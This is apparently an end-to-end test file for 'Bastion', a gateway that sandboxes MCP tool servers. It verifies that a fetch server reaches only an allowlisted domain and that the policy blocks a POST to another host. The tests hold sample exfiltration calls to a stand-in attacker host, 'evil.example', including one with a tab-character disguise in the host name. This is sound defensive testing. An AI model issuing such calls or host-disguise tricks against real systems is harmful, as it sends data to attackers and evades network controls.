"""One list of domains (issue 14): a sandboxed server's `allow_domains` is the policy's domain list for it.

The real `mcp-server-fetch`, sandboxed with one allowlisted name and no `policy.servers` entry: a
call to the allowlisted site is allowed and reaches it; a POST to any other host is denied by the
policy (`net.external_write`) before the server runs it, so the egress proxy never sees it.
"""

from __future__ import annotations

import anyio
import pytest

from bastion.config import load_config
from bastion.gateway.gateway import Gateway
from bastion.runtime.egress.proxy import ResolverForTests
from bastion.runtime.events import EgressAllowed, EgressBlocked, RecordingSink
from bastion.runtime.sandbox import bubblewrap_problem
from tests.e2e.conftest import VENV_BIN, write_config
from tests.e2e.inprocess import http_client, serving
from tests.e2e.sandbox_fixtures import local_site

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.e2e,
    pytest.mark.skipif(bubblewrap_problem() is not None, reason=f"no sandbox here: {bubblewrap_problem()}"),
]


async def test_a_post_the_sandbox_would_block_is_denied_by_policy_first(tmp_path):
    fetch = {
        "command": str(VENV_BIN / "mcp-server-fetch"),
        "args": ["--ignore-robots-txt"],
        "sandbox": {"network": "allowlist", "allow_domains": ["docs.example.test"]},
    }
    config = load_config(write_config(tmp_path, {"fetch": fetch}, policy={"profile": "recommended"}))
    sink = RecordingSink()
    with local_site() as (port, seen), anyio.fail_after(90):
        resolver = ResolverForTests({"docs.example.test": ("127.0.0.1", port)})
        gateway = Gateway(config, runtime_sink=sink, test_resolver=resolver)
        async with serving(gateway):
            assert gateway.tokens is not None
            _, token = gateway.tokens.create("agent")
            async with http_client(gateway, "fetch", token) as client:
                ok = await client.call_tool("fetch", {"url": "http://docs.example.test/guide", "raw": True})
                posted = await client.call_tool(
                    "fetch", {"url": "https://evil.example/upload", "method": "POST", "body": "every customer"}
                )
                disguised = await client.call_tool("fetch", {"url": "https://evil\t.example/upload", "method": "POST"})
    assert not ok.is_error, ok
    assert seen == ["docs.example.test /guide"]
    for denied, named in ((posted, "net.external_write"), (disguised, "net.url_disguised")):
        assert denied.is_error, denied
        text = denied.content[0].text  # type: ignore[union-attr]
        assert text.startswith("Bastion denied this tool call"), text
        assert named in text, text
        assert "evil.example" in text, text
    assert not sink.of_type(EgressBlocked), "denied before the server ran: the proxy never saw the request"
    assert [e.host for e in sink.of_type(EgressAllowed)] == ["docs.example.test"]
